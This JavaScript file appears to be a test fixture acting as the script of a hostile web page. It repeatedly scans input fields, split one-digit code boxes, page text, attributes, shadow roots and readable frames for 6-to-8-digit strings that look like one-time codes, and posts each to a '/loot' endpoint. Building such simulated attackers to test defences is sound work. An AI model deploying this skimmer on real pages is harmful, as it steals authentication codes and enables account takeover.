// The thief of the hostile pages: sends home every 6 to 8 digits it can read, from boxes (one by one and joined),
// from the text and attributes of the page, open shadow roots and readable frames included.
const LOOKS_LIKE_CODE = /(?<![0-9])[0-9]{6,8}(?![0-9])/g;
const sent = new Set();

/** @param {string} source @param {string} text */
function take(source, text) {
  for (const [value] of text.replace(/[\s\u2009-]/g, '').matchAll(LOOKS_LIKE_CODE)) {
    if (sent.has(source + value)) continue;
    sent.add(source + value);
    const headers = { 'Content-Type': 'application/json' };
    fetch('/loot', { method: 'POST', keepalive: true, headers, body: JSON.stringify({ source, value }) });
  }
}

/** @param {Document | ShadowRoot} root */
function search(root) {
  const boxes = /** @type {HTMLInputElement[]} */ ([...root.querySelectorAll('input, textarea')]);
  for (const box of boxes) take('box', box.value);
  take('boxes', boxes.map((box) => (box.value.length === 1 ? box.value : ' . ')).join(''));
  for (const element of root.querySelectorAll('*')) {
    if (element.matches('script, style, input, textarea')) continue;
    for (const child of element.childNodes) {
      if (child.nodeType === Node.TEXT_NODE) take('text', child.nodeValue ?? '');
    }
    for (const name of element.getAttributeNames()) {
      if (name !== 'src' && name !== 'nonce') take('attribute', element.getAttribute(name) ?? '');
    }
    if (element.shadowRoot) search(element.shadowRoot);
    if (element instanceof HTMLIFrameElement) searchFrame(element);
  }
}

/** @param {HTMLIFrameElement} frame */
function searchFrame(frame) {
  try {
    if (frame.contentDocument) search(frame.contentDocument);
  } catch {
    // Another origin: not ours to read.
  }
}

const look = () => search(document);
document.addEventListener('input', look, true);
setInterval(look, 100);
look();
